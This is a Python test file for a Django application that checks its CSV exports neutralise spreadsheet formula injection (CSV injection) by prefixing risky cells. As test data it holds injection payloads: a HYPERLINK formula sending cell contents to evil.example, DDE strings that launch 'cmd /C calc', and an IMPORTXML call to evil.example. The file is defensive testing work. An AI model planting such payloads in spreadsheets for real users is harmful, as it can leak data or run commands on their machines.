"""Spreadsheets QPA writes for imports never turn typed text into a formula: the
past-audit template and the problems file of an import (OWASP, CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from qpa.accounts.models import Role
from qpa.cases import imports
from qpa.cases.models import ImportKind, ImportStatus
from qpa.core.spreadsheets import csv_text, neutralise
from qpa.tools.models import AuditTool, Domain
from tests.support.factories import UserFactory
from tests.support.people import signed_in

pytestmark = pytest.mark.django_db

# Each begins a cell that Excel, LibreOffice or Google Sheets would run as a formula.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_live_formula(text: str) -> None:
    for cell in _cells(text):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_a_cell_that_would_be_a_formula_is_prefixed_and_numbers_stay_numbers() -> None:
    assert [neutralise(value) for value in FORMULAS] == ["'" + value for value in FORMULAS]
    assert neutralise(-3) == -3
    assert neutralise(2.5) == 2.5
    assert neutralise("Good") == "Good"
    assert _cells(csv_text([["a", -1, "=1"]])) == ["a", "-1", "'=1"]


def test_the_past_audit_template_writes_domain_names_as_text() -> None:
    version = AuditTool.objects.get(slug="quality-of-practice").current_version
    last = version.domains.order_by("-order").first()
    assert last is not None
    for offset, name in enumerate(FORMULAS, start=1):
        Domain.objects.create(version=version, order=last.order + offset, name=name)

    response = signed_in(UserFactory(role=Role.PERFORMANCE)).get(
        "/audits/imports/past-audits/template.csv"
    )

    assert response.status_code == 200
    text = response.content.decode()
    _assert_no_live_formula(text)
    header = next(csv.reader(io.StringIO(text)))
    assert header[-len(FORMULAS) :] == ["'" + name for name in FORMULAS]


def test_the_problems_file_of_an_import_writes_the_files_own_text_as_text() -> None:
    admin = UserFactory(role=Role.ADMINISTRATOR)
    status = '=IMPORTXML("https://evil.example","//a")'
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["Child ID", status])
    writer.writerows([f"C{n}", value] for n, value in enumerate(FORMULAS))
    run = imports.import_run_create(
        acting_user=admin,
        kind=ImportKind.CASE_LIST,
        file_name="cases.csv",
        content=out.getvalue().encode(),
        options={"columns": {"child_id": "Child ID", "status": status}},
    )
    run = imports.import_run_execute(run=run)
    assert run.status == ImportStatus.REJECTED
    assert run.error_count == len(FORMULAS)

    response = signed_in(admin).get(f"/cases/imports/{run.public_id}/problems.csv")

    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode()
    _assert_no_live_formula(text)
    problems = list(csv.DictReader(io.StringIO(text)))
    assert {row["column"] for row in problems} == {"'" + status}
    assert [row["problem"] for row in problems] == [
        f"'{value.strip()} is not a case status: use open or closed." for value in FORMULAS
    ]
